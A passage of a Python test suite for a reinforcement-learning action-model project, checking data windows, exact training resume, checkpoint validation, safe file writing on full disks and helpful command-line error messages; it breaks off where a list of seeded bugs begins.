def test_unseen_goals_are_read_like_seen_ones(tmp_path):
    """A cell of the room is the same number for the model in both splits, whatever their cards."""
    for task, mean in (("train", [1.0, 2.0]), ("heldout", [7.0, 8.0])):
        folder = tmp_path / "darkroom" / task
        folder.mkdir(parents=True)
        (folder / "task.json").write_text(json.dumps(
            dark_card(task=f"darkroom/{task}", state_mean=mean)))
    data.write_trajectory(tmp_path / "darkroom/train/0.hdf5", np.zeros((5, 2), np.float32),
                          np.zeros(5, int), np.zeros(5, np.float32), False)
    cards = data.Mixture(tmp_path, ["darkroom/train"], ["darkroom/heldout"], True).cards
    seen, unseen = cards["darkroom/train"], cards["darkroom/heldout"]
    assert unseen["state_mean"] == seen["state_mean"] == [1, 2] and unseen["heldout"]


def test_windows_begin_at_episodes(tmp_path, monkeypatch):
    """With --align 100 every window is two whole episodes: rewards and returns-to-go of the file,
    across the border too.
    """
    monkeypatch.setattr(data, "q_learning", partial(data.q_learning, episodes=12))
    monkeypatch.chdir(tmp_path)
    folder = Path("darkroom/histories")
    folder.mkdir(parents=True)
    data.q_learning_histories("darkroom/histories", folder, list(range(4)), None)
    data._finish_task("darkroom/histories", folder, {"expert": {0: 50.0}, "random": {0: 1.0}})
    t = [data.open_trajectory(folder / f"{k:06d}.hdf5") for k in range(4)]
    mixture = data.Mixture(tmp_path, ["darkroom/histories"], align=100)
    assert not mixture.cards["darkroom/histories"]["constant_rtg"]      # as in darkroom/train
    starts = set()
    for step in range(40):
        row, start = mixture.draw("darkroom", 200, np.random.default_rng(step))
        window, source = mixture.window(row, start, 200), t[row[1]]
        assert start % 100 == 0 and len(window["rtg"]) == 200
        assert np.allclose(20 * window["rtg"], source.returns_to_go[start:start + 200])
        assert np.allclose(20 * window["reward"][1:], source.rewards[start:start + 199])
        assert np.isclose(20 * window["reward"][0], source.rewards[start - 1] if start else 0)
        starts.add(start)
    assert {0, 1000} <= starts and len(starts) >= 9     # 11 are possible, the last one too


def test_lost_lives_end_trajectories():
    """Pieces of an episode, cut after the step on which a life was lost."""
    episode = lambda lives: worlds.Episode(0, None, None, None, np.zeros(len(lives)),
                                           np.array(lives), False, True)
    assert data.split_lives(episode([3, 3, 2, 2, 1, 0])) == [(0, 3), (3, 5), (5, 6)]
    assert data.split_lives(episode([0, 0, 0, 0])) == [(0, 4)]


class Lives(gym.Env):
    """Six steps of rewards 3, -3, 0.5, 3, -3, 0.5; a life is lost at the third and the fifth."""
    observation_space = gym.spaces.Box(-9, 9, (1,), np.float32)
    action_space = gym.spaces.Discrete(2)

    def reset(self, *, seed=None, options=None):
        self.t = 0
        return np.zeros(1, np.float32), {"lives": 3}

    def step(self, action):
        self.t += 1
        reward, lives = (3.0, -3.0, 0.5)[(self.t - 1) % 3], 3 - (self.t >= 3) - (self.t >= 5)
        return np.full(1, self.t, np.float32), reward, self.t == 6, False, {"lives": lives}


def test_made_games_are_cut_at_lost_lives_and_their_rewards_clipped(tmp_path, monkeypatch):
    """As Atari's: a file for each life, done at its end, rewards in [-1, 1]."""
    monkeypatch.setitem(worlds.DOMAINS, "lives", worlds.Domain(
        lambda name, render: Lives(), "gymnasium", "gymnasium", ("x",), clip_rewards=True))
    monkeypatch.setitem(data.RECIPES, "lives", data.Recipe(lambda env: lambda obs, reward: 1))
    data._make_episodes("lives/x", tmp_path, [7], lambda steps: None)
    lives = [data.open_trajectory(tmp_path / f"000007{part}.hdf5") for part in ("", "-1", "-2")]
    assert [t.states[:, 0].tolist() for t in lives] == [[0, 1, 2], [3, 4], [5]]
    assert [t.rewards.tolist() for t in lives] == [[1, -1, 0.5], [1, -1], [0.5]]
    assert all(t.dones.tolist() == [False] * (t.length - 1) + [True] for t in lives)
    # validation holds out a game, not a life
    assert len({data.share_of(name) for name in ("000007", "000007-1", "000007-12")}) == 1


# ---------------------------------------------------------------------------------------- training
def tiny_args(root, **changes):
    """A run of seconds."""
    return train.Args(tasks=("darkroom/train",), data_root=root, episodes_per_task=6, steps=6,
                      context=10, batch_size=3, layers=2, episodes=0, save_every=3, dropout=0.1,
                      **changes)


@pytest.mark.parametrize("backbone", lram.BACKBONES)
def test_resume_is_exact(backbone, tmp_path, monkeypatch):
    """Six steps in one go, and a run killed in its fifth and resumed: equal to the last bit."""
    monkeypatch.chdir(tmp_path)
    train.main(tiny_args(Path("d"), backbone=backbone, name="whole"))
    real_write = train.Log.write

    def killed(self, **row):
        if row["step"] == 4:
            raise KeyboardInterrupt
        real_write(self, **row)
    monkeypatch.setattr(train.Log, "write", killed)
    with pytest.raises(SystemExit, match="--resume"):
        train.main(tiny_args(Path("d"), backbone=backbone, name="parts"))
    monkeypatch.setattr(train.Log, "write", real_write)
    train.main(train.Args(backbone=backbone, name="parts", resume=True, episodes=0, save_every=3))
    a, b = (lram.load_checkpoint(f"runs/{name}/checkpoint.pt") for name in ("whole", "parts"))
    assert a["step"] == b["step"] == 6
    assert all(torch.equal(a["model"][k], b["model"][k]) for k in a["model"])
    for x, y in zip(a["optimizer"]["state"].values(), b["optimizer"]["state"].values()):
        assert all(torch.equal(x[k], y[k]) for k in x)
    logs = [[json.loads(line) for line in open(f"runs/{name}/log.jsonl")]
            for name in ("whole", "parts")]
    assert logs[0] == logs[1]
    train.main(train.Args(backbone=backbone, name="parts", resume=True, episodes=0))    # complete
    assert [json.loads(line) for line in open("runs/parts/log.jsonl")] == logs[0]
    assert (Path("runs/parts/curves.png").stat().st_size > 5000) and \
        Path("runs/parts/config.json").exists()
    # other trajectories than those of the interrupted run are refused
    folder = Path("d/darkroom/train")
    shutil.copy(folder / "000000.hdf5", folder / "000099.hdf5")
    for index in (folder / "episode_lengths.json", folder / "episode_returns.json"):
        known = json.loads(index.read_text())
        index.write_text(json.dumps({**known, "000099": known["000000"]}))
    with pytest.raises(SystemExit, match="are not those that the run was interrupted on"):
        train.main(train.Args(backbone=backbone, name="parts", resume=True, episodes=0))


def test_resume_takes_the_same_command(tmp_path):
    """Domains and gym:ID too, which the run keeps as lists of tasks; other tasks are refused."""
    args = train.Args(tasks=("darkroom", "gym:CartPole-v1"), heldout=("darkroom",), resume=True)
    saved = asdict(train.resolve(args)) | {"data_root": "datasets"}
    assert train.resumed_args(args, saved).tasks == ("darkroom/train", "gym/CartPole-v1")
    with pytest.raises(SystemExit, match="--tasks .* contradicts the run"):
        train.resumed_args(replace(args, tasks=("metaworld",)), saved)


def test_resume_refuses_a_default_that_was_typed(monkeypatch):
    """--backbone mlstm is the default, and yet another model than the run's gpt."""
    saved = asdict(train.Args(backbone="gpt", dropout=0.1)) | {"data_root": "datasets"}
    args = train.Args(resume=True)
    assert train.resumed_args(args, saved).backbone == "gpt"        # nothing was typed
    for words in (["--backbone", "mlstm"], ["--backbone=mlstm"]):
        monkeypatch.setattr(sys, "argv", ["train.py", "--resume", *words])
        with pytest.raises(SystemExit, match="--backbone mlstm contradicts the run .*gpt"):
            train.resumed_args(args, saved)


def test_two_trainings_never_share_a_folder(tmp_path, monkeypatch):
    """The second one that starts finds the name taken, though nothing is written yet."""
    monkeypatch.chdir(tmp_path)
    seen = Path.glob
    monkeypatch.setattr(Path, "glob", lambda *_: [])        # both look before either has made it
    folders = [train.run_folder(train.Args(name="a/b")) for _ in range(3)]
    monkeypatch.setattr(Path, "glob", seen)
    folders.append(train.run_folder(train.Args(name="a/b")))
    assert [f.name for f in folders] == ["b", "b-2", "b-3", "b-4"] and all(
        f.is_dir() for f in folders)
    (folders[1] / "log.jsonl").touch()
    for folder in folders:                                  # as at the end of the program
        train._give_up(folder)
    assert os.listdir("runs/a") == ["b-2"]


def test_several_processes_train_as_one(tmp_path):
    """torchrun with 2 processes against one process: the same losses and perplexities.

    Two domains, pictures and vectors, of different length: the processes' windows hold different
    numbers of valid pairs, and each domain leaves one encoder without a gradient. The reading
    processes of --workers change nothing.
    """
    write_task(tmp_path / "d", [30, 4, 25, 7, 30, 3, 12])
    write_images(tmp_path / "d", [30, 5, 25, 7, 30, 3])
    common = ("--tasks", "darkroom/train", "atari/freeway", "--data-root", "d", "--heldout",
              "--episodes", "0", "--batch-size", "5", "--image-batch-size", "3", "--dropout", "0",
              "--validate-every", "3", "--save-every", "3", "--standardise", "False",
              "--episodes-per-task", "1", "--device", "cpu")
    torchrun = ("-m", "torch.distributed.run", "--standalone", "--nproc-per-node", "2",
                REPOSITORY / "train.py")
    runs = {"one": ((REPOSITORY / "train.py",), ("--steps", "6", "--workers", "2")),
            "two": (torchrun, ("--steps", "6"))}
    for name, (start, flags) in runs.items():
        done = run(*start, *common, "--name", name, *flags, cwd=tmp_path)
        assert done.returncode == 0, done.stderr[-3000:]
    rows = [[json.loads(line) for line in open(tmp_path / "runs" / name / "log.jsonl")]
            for name in runs]
    assert len(rows[0]) == len(rows[1]) == 6 + 3
    for a, b in zip(*rows):
        assert a.keys() == b.keys() and a["step"] == b["step"]
        for key in {"loss", "perplexity"} & a.keys():
            assert a[key].keys() == b[key].keys()
            assert all(abs(a[key][d] / b[key][d] - 1) < 1e-5 for d in a[key]), (a, b)


def write_reaching(root, episodes=12):
    """A synthetic task with two continuous actions, the best of its trajectories first."""
    folder, rng, lengths = Path(root) / "dmcontrol" / "reacher-easy", np.random.default_rng(1), {}
    folder.mkdir(parents=True)
    for k in range(episodes):
        lengths[f"{k:06d}"] = T = 21 + k % 4
        data.write_trajectory(folder / f"{k:06d}.hdf5", rng.normal(size=(T, 2)).astype(np.float32),
                              rng.uniform(-1, 1, (T, 2)).astype(np.float32),
                              rng.random(T) * (episodes - k), False)
    (folder / "task.json").write_text(json.dumps(dark_card(
        task="dmcontrol/reacher-easy", domain="dmcontrol",
        action={"kind": "continuous", "dims": 2}, state_mean=[0.1, 0.2], state_std=[1.1, 0.9])))
    (folder / "episode_lengths.json").write_text(json.dumps(lengths))


def test_training_is_this_loop(tmp_path, monkeypatch):
    """log.jsonl of a run, key by key, against a plain loop on the same batches: initial weights,
    AdamW, decay, clipping, schedule, dropout, the losses and their means, and validation.
    """
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(data, "LEAST_HELD_OUT", 0)          # no expert's episodes are added
    write_reaching("d")
    write_images("d", [9] * 12)
    args = train.Args(
        tasks=("dmcontrol/reacher-easy", "atari/freeway"), heldout=(), data_root=Path("d"),
        episodes_per_task=12, episodes=0, steps=7, context=6, image_context=4, batch_size=3,
        image_batch_size=2, lr=0.01, warmup=3, clip=0.3, weight_decay=0.3, soft_sigma=2.0, bins=64,
        early_readout=True, standardise=False, dim=32, layers=1, cnn=(2, 2, 2), dropout=0.3,
        top_fraction=0.5, align=2, seed=3, validate_every=3, name="a/b")
    train.main(args)
    rows = [json.loads(line) for line in open("runs/a/b/log.jsonl")]

    torch.manual_seed(3)
    model = lram.LRAM(lram.Config("mlstm", dim=32, layers=1, context=6, bins=64, cnn=(2, 2, 2),
                                  dropout=0.3))
    mixture = data.Mixture("d", args.tasks, top_fraction=0.5, align=2)
    shapes = {"dmcontrol": (3, 6), "atari": (2, 4)}
    matrices = [p for p in model.parameters() if p.dim() > 1]
    vectors = [p for p in model.parameters() if p.dim() == 1]
    optimizer = torch.optim.AdamW([{"params": matrices, "weight_decay": 0.3},
                                   {"params": vectors, "weight_decay": 0.0}])

    def terms(batch, token, sigma=0.0):
        """Cross-entropy of every real (step, dimension), read at a token of each step."""
        x = {key: torch.as_tensor(value) for key, value in batch.items()}
        continuous = x["action"].dim() == 3
        logits, _ = model(x["obs"], x["reward"], x["rtg"], 2 * continuous, at=token)
        log_p, target = logits.log_softmax(-1), x["action"]
        if continuous:
            target = ((target + 1) * 32).floor().clamp(0, 63).long()
        if continuous and sigma:
            p = torch.exp(-(torch.arange(64) - target[..., None]) ** 2 / (2 * sigma ** 2))
            loss = -(p / p.sum(-1, keepdim=True) * log_p).sum(-1)
        else:
            loss = -log_p.gather(-1, target[..., None])[..., 0]
        return loss[x["mask"]]

    def perplexity(domain):
        model.eval()
        with torch.no_grad():
            every = torch.cat([terms(batch, -1) for batch in
                               mixture.validation_batches(domain, *shapes[domain])])
        model.train()
        return math.exp(every.mean())

    expected = []
    for step in range(8):
        if step in (0, 3, 6, 7):
            found = {domain: perplexity(domain) for domain in shapes}
            expected.append(dict(step=step, perplexity=found,
                                 mean_perplexity=sum(found.values()) / 2))
        if step == 7:
            break
        lr = 0.01 * (step + 1) / 3 if step < 3 else \
            1e-6 + (0.01 - 1e-6) * (1 + math.cos(math.pi * (step - 3) / 4)) / 2
        losses = {}
        for domain, shape in shapes.items():
            # pictures are learned from at s_t too, the mean of both
            batch = mixture.sample(domain, *shape, seed=3, step=step)
            state = torch.get_rng_state()
            last = terms(batch, -1, 2.0).mean()
            loss = last
            if domain == "atari":
                torch.set_rng_state(state)                  # the same pass, and the same dropout
                loss = (loss + terms(batch, -2, 2.0).mean()) / 2
            (loss / 2).backward()
            losses[domain] = last.item()
        norm = torch.nn.utils.clip_grad_norm_(model.parameters(), 0.3).item()
        for group in optimizer.param_groups:
            group["lr"] = lr
        optimizer.step()
        optimizer.zero_grad()
        expected.append(dict(step=step, loss=losses, lr=lr, norm=norm))
    assert [row.keys() for row in rows] == [row.keys() for row in expected]
    for row, truth in zip(rows, expected):
        for key in truth:
            assert row[key] == pytest.approx(truth[key], rel=1e-4), (truth["step"], key)
    # fine-tuning begins where a run ended
    train.main(replace(args, steps=1, init_from=Path("runs/a/b/checkpoint.pt"), name="c"))
    first = json.loads(open("runs/c/log.jsonl").readline())
    assert first["perplexity"] == rows[-1]["perplexity"]


@pytest.mark.parametrize("name", ("/tmp/x", "../x", "a/../../x", "."))
def test_a_run_stays_below_its_folder(name):
    """Whatever its name."""
    with pytest.raises(SystemExit, match="below runs/"):
        train.run_folder(train.Args(name=name))


def test_training_learns_what_is_learnable(tmp_path, monkeypatch):
    """Action = sign of the observation: the loss falls to nearly nothing."""
    monkeypatch.chdir(tmp_path)
    folder = Path("d/darkroom/train")
    folder.mkdir(parents=True)
    rng, lengths = np.random.default_rng(0), {}
    for k in range(20):
        states = rng.normal(size=(40, 2)).astype(np.float32)
        data.write_trajectory(folder / f"{k:06d}.hdf5", states, (states[:, 0] > 0).astype(int),
                              np.zeros(40), False)
        lengths[f"{k:06d}"] = 40
    (folder / "task.json").write_text(
        json.dumps(dark_card(state_mean=[0.0, 0.0], state_std=[1.0, 1.0])))
    (folder / "episode_lengths.json").write_text(json.dumps(lengths))
    monkeypatch.setattr(data, "LEAST_HELD_OUT", 0)          # no expert's episodes are added
    train.main(train.Args(tasks=("darkroom/train",), data_root=Path("d"), episodes_per_task=20,
                          steps=120, context=10, batch_size=16, layers=1, episodes=0, warmup=10,
                          name="x"))
    rows = [json.loads(line) for line in open("runs/x/log.jsonl")]
    assert [r["perplexity"]["darkroom"] for r in rows if "perplexity" in r][-1] < 1.3


def test_a_trained_agent_follows_another_target(tmp_path, monkeypatch):
    """Data of two kinds, return 80 by action 1 and 40 by action 0: the target decides."""
    monkeypatch.chdir(tmp_path)
    folder = Path("d/darkroom/train")
    folder.mkdir(parents=True)
    rng = np.random.default_rng(0)
    for k in range(40):
        states = np.stack([np.arange(20) / 20, rng.normal(size=20)], 1).astype(np.float32)
        data.write_trajectory(folder / f"{k:06d}.hdf5", states, np.full(20, k % 2),
                              np.full(20, 2.0 + 2 * (k % 2)), False)
    scale = worlds.DOMAINS["darkroom"].made_scale
    stats = data.statistics(folder)
    data.write_card(folder, stats, data.task_card("darkroom/train", stats, reward_scale=scale,
                                                  target_return=80.0, constant_rtg=False))
    monkeypatch.setattr(data, "LEAST_HELD_OUT", 0)
    train.main(train.Args(tasks=("darkroom/train",), data_root=Path("d"), episodes_per_task=40,
                          steps=60, context=1, batch_size=16, layers=1, episodes=0, warmup=10,
                          heldout=(), tokens="s,rtg", lr=1e-3, name="x"))
    saved = lram.load_checkpoint("runs/x/checkpoint.pt")
    model, card = lram.model_from_checkpoint(saved), saved["cards"]["darkroom/train"]
    for target, action in ((80.0, 1), (40.0, 0)):
        agent = lram.Agent(model, card, target_return=target)
        agent.begin(1)
        assert agent.act(np.zeros((1, 2)), np.zeros(1), np.ones(1, bool)) == [action]


@pytest.mark.parametrize("backbone", lram.BACKBONES)
def test_first_gradient_is_small(backbone):
    """Of a window of zeros, on which a LayerNorm without biases has a Jacobian of 316 per layer."""
    for size in ("tiny", "16m"):
        for tokens in (("r", "s", "rtg"), ("r", "s"), ("s",), ("a", "r", "s", "rtg")):
            norm = lram.first_gradient(lram.Config(backbone, size, tokens=tokens))
            assert 0 < norm < 1e3, (size, tokens, norm)


def test_infinite_gradient_stops_with_advice(tmp_path, monkeypatch):
    """Clipping would make it an update of zeros, and training would go on for nothing."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(torch.nn.utils, "clip_grad_norm_", lambda *a: torch.tensor(math.inf))
    with pytest.raises(SystemExit, match="norm of the gradient is inf at step 0.*--lr"):
        train.main(tiny_args(Path("d"), name="x"))


def test_learning_rate_schedule():
    """Linear to the peak at the end of warm-up, then down a cosine to 1e-6."""
    args = train.resolve(train.Args(steps=1000, lr=1e-3, warmup=100))
    assert np.isclose(train.learning_rate(49, args), 0.5e-3) and \
        np.isclose(train.learning_rate(99, args), 1e-3)
    assert np.isclose(train.learning_rate(550, args), (1e-3 + 1e-6) / 2)
    assert train.learning_rate(999, args) < 4e-6


def test_nan_loss_stops_with_advice(tmp_path, monkeypatch):
    """And leaves the last checkpoint as it was."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(train, "action_loss", lambda *a: lram.action_loss(*a) * float("nan"))
    with pytest.raises(SystemExit, match="not finite at step 0.*--lr"):
        train.main(tiny_args(Path("d"), name="x"))


def test_checkpoints_are_refused_with_a_reason(tmp_path):
    """Absent, truncated, foreign, and with code inside."""
    with pytest.raises(SystemExit, match="no checkpoint at"):
        lram.load_checkpoint(tmp_path / "none.pt")
    good = tmp_path / "good.pt"
    lram.save_checkpoint(good, {"model": {}, "model_config": {}, "cards": {}})
    (tmp_path / "cut.pt").write_bytes(good.read_bytes()[:200])
    with pytest.raises(SystemExit, match="not a readable checkpoint"):
        lram.load_checkpoint(tmp_path / "cut.pt")
    torch.save({"weights": 1}, tmp_path / "foreign.pt")
    with pytest.raises(SystemExit, match="holds no model"):
        lram.load_checkpoint(tmp_path / "foreign.pt")
    torch.save(torch.zeros(3), tmp_path / "tensor.pt")
    with pytest.raises(SystemExit, match="holds no model, model_config, cards"):
        lram.load_checkpoint(tmp_path / "tensor.pt")
    config, weights = asdict(lram.Config()), lram.LRAM(lram.Config()).state_dict()
    for bad in ({"model": {}, "model_config": config}, {"model": weights, "model_config": {
            **config, "invented": 1}}, {"model": weights, "model_config": {**config, "dim": 32}}):
        with pytest.raises(SystemExit, match="does not fit lram.py .*train it again"):
            lram.model_from_checkpoint(bad)
    torch.save({"model": Path("x")}, tmp_path / "code.pt")
    with pytest.raises(SystemExit, match="not a readable checkpoint"):
        lram.load_checkpoint(tmp_path / "code.pt")


def test_cut_games_have_no_public_reference():
    """Games that were cut are not compared with whole ones; whole ones go by the paper's table."""
    card = dark_card(random_score=1.0, reference_score=3.0, limit=600)
    assert worlds.anchors("atari/ms_pacman", card) == (1.0, 3.0, None)
    assert "cut at 600 steps" in worlds.anchors("atari/ms_pacman", card, "public")[2]
    whole = {**card, "limit": None}
    assert worlds.anchors("atari/ms_pacman", whole, "human") == (307.3, 6951.6, None)


def test_a_task_that_the_checkpoint_does_not_know(tmp_path):
    """Refused with what it was trained on, and the nearest."""
    cards = {"metaworld/reach-v3": 1, "atari/freeway": 2}
    assert worlds.choose_cards(cards, ("atari/freeway",)) == {"atari/freeway": 2}
    assert worlds.choose_cards(cards, ("atari",)) == {"atari/freeway": 2}
    with pytest.raises(SystemExit, match="trained on metaworld/reach-v3.*Nearest: atari/freeway"):
        worlds.choose_cards(cards, ("atari/freewy",))


def test_missing_simulators_are_named_and_left_out(tmp_path, monkeypatch, capsys):
    """With the line that installs them; everything else goes on."""
    found = worlds.importlib.util.find_spec
    hidden = lambda name: None if name == "metaworld" else found(name)
    monkeypatch.setattr(worlds.importlib.util, "find_spec", hidden)
    with pytest.raises(SystemExit, match="pip install metaworld"):
        worlds.make_env("metaworld/reach-v3")
    tasks = ["metaworld/reach-v3", "darkroom/train"]
    assert data.make(tasks, tmp_path, episodes=2, processes=1) == ["darkroom/train"]
    assert "metaworld/reach-v3 left out" in capsys.readouterr().err
    write_task(tmp_path / "made", [20, 20], task="metaworld/reach-v3")     # the data are there
    assert data.make(tasks[:1], tmp_path / "made") == ["metaworld/reach-v3"]
    assert "metaworld/reach-v3 cannot be scored" in capsys.readouterr().err
    broken = mock.Mock(side_effect=OSError("libGL.so.1"))       # it lacks a library of the system's
    monkeypatch.setitem(worlds.DOMAINS, "gone", replace(
        worlds.DOMAINS["darkroom"], make=broken, tasks=("one", "two")))
    tasks = ["gone/one", "darkroom/train", "gone/two"]
    assert data.make(tasks, tmp_path / "new", episodes=2, processes=1) == ["darkroom/train"]
    said = capsys.readouterr().err
    for task in tasks[::2]:
        assert f"{task} left out: its simulator does not start: libGL.so.1" in said
    assert broken.call_count == 1 and "does not start" in worlds.cannot_play("gone/two", {})


def test_metaworld_does_without_the_library_of_windows():
    """Where glfw's does not load: the bare system has no libX11, and nothing is drawn."""
    needs("metaworld/reach-v3")
    run = subprocess.run(
        [sys.executable, "-c", "import eval; eval.make_env('metaworld/reach-v3').reset(seed=0)"],
        cwd=Path(__file__).parent, env=os.environ | {"PYGLFW_LIBRARY": "/nowhere.so"},
        capture_output=True, text=True)
    assert run.returncode == 0, run.stderr


@pytest.mark.parametrize("error", (OSError(28, "No space left on device"), RuntimeError("write")))
def test_a_full_disk_loses_nothing(error, tmp_path, monkeypatch):
    """Writing fails halfway: the old file stands and no half-written one is left."""
    path = tmp_path / "c.pt"
    lram.save_checkpoint(path, {"model": 0})
    os.link(path, tmp_path / "open")                # as a reader that had it open sees it
    lram.save_checkpoint(path, {"model": 1})
    assert torch.load(tmp_path / "open", weights_only=True) == {"model": 0}
    os.remove(tmp_path / "open")

    def full(payload, target):
        Path(target).write_bytes(b"half")
        raise error
    monkeypatch.setattr(torch, "save", full)
    with pytest.raises(SystemExit, match="it would have been the first one. Free some space"):
        lram.save_checkpoint(tmp_path / "first.pt", {"model": 1})
    with pytest.raises(SystemExit, match="last good checkpoint is untouched"):
        lram.save_checkpoint(path, {"model": 2})
    assert torch.load(path, weights_only=True) == {"model": 1} and os.listdir(tmp_path) == ["c.pt"]


FULL = """
import resource, sys, data
resource.setrlimit(resource.RLIMIT_FSIZE, (30_000, 30_000))     # no file gets longer: EFBIG
data.convert(data.Convert("d4rl", data.Path("s"), "robots/x", data.Path("d")))
"""


def test_a_full_disk_ends_a_conversion_with_a_message(tmp_path):
    """And not with a signal from within HDF5; what was written stays, the command continues."""
    pytest.importorskip("resource")
    known = write_flat(tmp_path / "s", (9, 900, 5), True)       # the second one does not fit
    done = run("-c", FULL, cwd=tmp_path)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert re.search("cannot write .*000001.hdf5: .*run the same command again", done.stderr)
    folder = tmp_path / "d/robots/x"
    assert sorted(os.listdir(folder)) == ["000000.hdf5", data.UNFINISHED]
    assert data.convert(data.Convert("d4rl", tmp_path / "s", "robots/x", tmp_path / "d")) == 3
    assert [len(r) for _, _, _, r, _ in known] == list(json.loads(
        (folder / "episode_lengths.json").read_text()).values())


@pytest.mark.parametrize("write", ("trajectory", "json", "pack"))
def test_what_stood_there_stands_until_the_new_is_whole(write, tmp_path, monkeypatch):
    """Writing is broken off before the last byte, and before the new file takes the name."""
    folder = write_task(tmp_path, [9, 9])
    path = folder / {"trajectory": "000000.hdf5", "json": "task.json", "pack": "pack.h5"}[write]
    data.pack(tmp_path)
    before, others = path.read_bytes(), sorted(os.listdir(folder))
    again = {
        "trajectory": lambda: data.write_trajectory(path, np.zeros((5, 2), np.float32), np.zeros(5),
                                                    np.zeros(5), True),
        "json": lambda: data.write_json(path, {"new": 1}),
        "pack": lambda: (os.utime(folder / "000000.hdf5", (2e9, 2e9)), data.pack(tmp_path))}[write]
    for victim in ("fsync", "replace"):
        def killed(*args):
            assert path.read_bytes() == before              # until the very end
            raise KeyboardInterrupt
        with monkeypatch.context() as patch:
            patch.setattr(os, victim, killed)
            with pytest.raises(KeyboardInterrupt):
                again()
        assert path.read_bytes() == before and sorted(os.listdir(folder)) == others
    (folder / f"{path.name}.tmp").write_bytes(b"another program's")
    again()
    assert path.read_bytes() != before or write == "pack"
    assert sorted(os.listdir(folder)) == sorted([*others, f"{path.name}.tmp"])


@pytest.mark.parametrize("file", ("config.json", "log.jsonl"))
def test_a_full_disk_at_the_start_of_training(file, tmp_path, monkeypatch):
    """One line says what could not be written."""
    monkeypatch.chdir(tmp_path)
    write_task(tmp_path / "d", [30, 4, 25, 7, 30, 3, 12])
    write = Path.write_text

    def full(path, *args, **kwargs):
        if path.name == file and "runs" in path.parts:
            raise OSError(28, "No space left on device")
        return write(path, *args, **kwargs)
    monkeypatch.setattr(Path, "write_text", full)
    monkeypatch.setattr(data, "make", lambda tasks, *_: tasks)
    with pytest.raises(SystemExit, match="cannot write to runs/x .*No space left.*free some space"):
        train.main(replace(tiny_args(Path("d"), name="x"), heldout=()))


def run(*command, cwd=REPOSITORY):
    """A command as a user would type it."""
    environment = {**os.environ, "PYTHONPATH": str(REPOSITORY)}
    return subprocess.run([sys.executable, *map(str, command)], cwd=cwd, env=environment,
                          capture_output=True, text=True, timeout=600)


@pytest.mark.parametrize("command,words", (
    (("train.py", "--backbone", "mlstn"), "mlstm"),
    (("train.py", "--tasks", "metaworld/reach"), "nearest: reach-v3"),
    (("train.py", "--tasks", "atari/freewy"), "nearest: atari/freeway"),
    (("eval.py", "--checkpoint", "none.pt"), "train one with"),
    (("data.py", "make", "darkrom/train"), "darkroom/train"),
    (("data.py", "make", "darkroom/train", "--episodes", "0"), "give 1 or more"),
    (("eval.py", "--compare", "none.json"), "cannot be read as scores"),
    (("train.py", "--resume", "--name", "x"), "nothing to"),
    (("train.py", "--tasks", "gym:CartPole-v1"), "there is no expert"),
    (("train.py", "--episodes", "-1"), "give 1 or more"),
    (("train.py", "--heads", "5"), "power of two"),
    (("train.py", "--tokens", "rtg,s"), "in this order"),
    (("train.py", "--backbone", "gpt", "--size", "206m-half"), "gpt has '206m'")))
def test_mistakes_are_answered_with_the_nearest_choice(command, words, tmp_path, monkeypatch,
                                                       capsys):
    """Exit code other than 0, no traceback, and the word that helps."""
    monkeypatch.chdir(tmp_path)
    (script, *rest), parsers = command, {
        "train.py": (train, train.Args), "eval.py": (worlds, worlds.Args),
        "data.py": (data, data.Make | data.Check)}
    module, kind = parsers[script]
    at_exit = []
    monkeypatch.setattr(train.atexit, "register", lambda f, *args: at_exit.append((f, args)))
    with pytest.raises(SystemExit) as stop:
        module.main(tyro.cli(kind, args=rest))
    assert stop.value.code, "it stopped as if nothing was wrong"
    said = capsys.readouterr()
    assert words in said.err + said.out + str(stop.value)
    for f, args in at_exit:
        f(*args)
    assert not list((tmp_path / "runs").glob("*"))          # what never began leaves no run


def readme_commands():
    """Every `python ...` command of README's code blocks, without comments."""
    text = (REPOSITORY / "README.md").read_text()
    blocks = re.findall(r"```(?:bash|sh)\n(.*?)```", text, re.S)
    lines = [line.split("#")[0].strip() for block in blocks for line in block.splitlines()]
    lines = [part.strip() for line in lines for part in line.split("&&")]
    return list(dict.fromkeys(line for line in lines if line.startswith("python ")
                              and "pytest" not in line and "-m venv" not in line))


def quick_form(script, rest):
    """The arguments of a README command with few steps and episodes, and one small domain."""
    if script == "train.py":
        quick = {"--steps": "2", "--episodes": "1", "--episodes-per-task": "3", "--batch-size": "2"}
        for flag in quick:
            if flag in rest:
                del rest[rest.index(flag):rest.index(flag) + 2]
        tasks = [] if "--resume" in rest else ["--tasks", "darkroom/train"]
        return rest + tasks + [word for pair in quick.items() for word in pair]
    if script == "eval.py" and "--checkpoint" in rest:
        rest = [word.replace("metaworld/reach-v3", "darkroom/train") for word in rest]
        return [*rest, *([] if {"--inspect", "--embed"} & {*rest} else ["--episodes", "1"])]
    if "--claim" in rest:               # test_claims_...
        return ["--claim", "all", "--report"]
    if script == "bench.py" and not {"--kernels", "--memory", "--windows"} & {*rest}:
        return ["--backbones", "gpt", "--steps", "20"]      # its modes: test_bench_modes
    if rest == ["--compile-all"]:       # test_kernels_compile_ahead_of_time compiles two widths
        return ["--help"]
    if script == "data.py" and rest[0] == "make" and "metaworld/push-v3" not in rest:
        return ["make", "darkroom/train", "--episodes", "1"]    # the default, laptop, gym:...
    return rest


def test_readme_commands_run(tmp_path):
    """In order, in one folder, each in its quick form: few steps and episodes, one domain."""
    commands = readme_commands()
    assert len(commands) >= 10
    quick = {command: (command.split()[1], *quick_form(command.split()[1], command.split()[2:]))
             for command in commands}
    first = {line: command for command, line in reversed(quick.items())}    # each quick form once
    for command, (script, *rest) in quick.items():
        tasks = [word for word in rest if "/" in word and word.split("/")[0] in worlds.DOMAINS]
        if first[script, *rest] != command or any(map(worlds.unavailable, tasks)):
            continue
        done = run(REPOSITORY / script, *rest, cwd=tmp_path)
        assert done.returncode == 0, f"{command}\n{done.stdout[-2000:]}\n{done.stderr[-3000:]}"
    scores = json.loads((tmp_path / "runs/mlstm/scores.json").read_text())
    assert np.isfinite(scores["mean_over_domains"])
    assert (tmp_path / "dark.gif").read_bytes()[:3] == b"GIF"
    assert (tmp_path / "scores.png").read_bytes()[1:4] == b"PNG"


# ------------------------------------------------------------ bugs, and the tests that see them
# Each is a mistake that someone could make: (file, a piece of a line, what it is turned into, the
# tests (-k) that then fail, what it teaches). The piece occurs once in the file.
BUGS = (
